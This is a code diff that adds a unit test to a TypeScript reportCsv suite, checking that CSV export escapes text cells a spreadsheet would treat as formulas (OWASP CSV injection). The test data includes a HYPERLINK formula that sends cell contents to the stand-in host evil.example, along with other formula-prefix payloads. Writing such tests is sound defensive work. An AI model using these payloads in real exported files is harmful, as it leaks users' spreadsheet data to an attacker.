@@ -229,4 +229,45 @@ describe('reportCsv', () => {
       ['(action)', '1', '3', 'mismatched', 'B2B', '7', 'name', 'a', 'b', ''],
     ]);
   });
+
+  it('keeps every name a spreadsheet would run as a formula as text: check, key header, column (OWASP CSV injection)', () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
+    const [check, key, column, renamed, target, more] = payloads;
+    const csv = reportCsv([
+      {
+        runId: 'r-1',
+        stepId: 's',
+        attempt: 1,
+        check: check!,
+        round: 1,
+        startedAt: '2026-11-24T10:00:00.000Z',
+        endedAt: '2026-11-24T10:00:01.000Z',
+        result: result({
+          mismatched: 1,
+          missing_in_target: 1,
+          examples: [
+            {
+              kind: 'mismatched',
+              key: { [key!]: 1 },
+              columns: [column!, target!],
+              source: { [column!]: -5, [renamed!]: 'a' },
+              target: { [column!]: 7, [target!]: 'b' },
+            },
+            { kind: 'missing_in_target', key: { [key!]: 2 }, source: { [more!]: 'x' } },
+          ],
+        }),
+      },
+    ]);
+    const rows = csvRows(csv);
+    expect(rows[0]).toEqual(['check', 'attempt', 'round', 'kind', `'${key}`, 'column', 'source_value', 'target_value', 'note']);
+    expect(rows.slice(1)).toEqual([
+      // A number stays a number: only text is made inert.
+      [`'${check}`, '1', '1', 'mismatched', '1', `'${column}`, '-5', '7', ''],
+      [`'${check}`, '1', '1', 'mismatched', '1', `'${renamed} -> ${target}`, 'a', 'b', ''],
+      [`'${check}`, '1', '1', 'missing_in_target', '2', `'${more}`, 'x', '', 'row only in the source'],
+    ]);
+    // Nothing in the file but a number starts a cell with a formula character.
+    const cells = rows.flat().filter((value) => !/^-?\d+$/.test(value));
+    for (const value of cells) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
+  });
 });
